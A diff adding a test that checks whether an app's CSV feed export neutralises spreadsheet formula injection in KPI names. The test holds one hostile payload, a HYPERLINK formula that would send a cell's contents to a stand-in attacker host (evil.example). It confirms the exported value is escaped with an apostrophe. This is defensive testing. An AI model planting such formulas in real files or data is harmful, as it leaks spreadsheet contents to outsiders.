@@ -74,4 +74,17 @@ describe.each(testDatabases)("spreadsheet links on $name", ({ open }) => {
     const viewer = await teammate(api, database.db, owner.accountId, "board@example.com", "viewer");
     expect((await call("POST", `/api/document/${docId}/feeds`, viewer.auth)).status).toBe(403);
   });
+
+  it("neutralises a KPI name a spreadsheet would run as a formula, as every CSV export does", async () => {
+    const kpis = (await call("GET", `/api/document/${docId}/kpi/list`, owner.auth)).json.items as { name: string; guid: string }[];
+    const costs = kpis.find((k) => k.name === "Costs")!;
+    const hostile = '=HYPERLINK("https://evil.example/?d="&A2,"Costs")';
+    expect((await call("PATCH", `/api/document/${docId}/kpi/${costs.guid}`, owner.auth, { name: hostile })).status).toBe(200);
+    const link = (await call("POST", `/api/document/${docId}/feeds`, owner.auth)).json.url as string;
+    const text = await (await fetchLink(link, "?period=QUARTER&from=2025-01-01&to=2025-03-31")).text();
+    const rows = parse(text, { columns: true }) as Record<string, string>[];
+    expect(rows.find((r) => r.GUID === costs.guid)).toMatchObject({ KPI: `'${hostile}`, Value: "30" });
+    expect(text).not.toMatch(/^=|,=/m);
+    await call("PATCH", `/api/document/${docId}/kpi/${costs.guid}`, owner.auth, { name: "Costs" });
+  });
 });
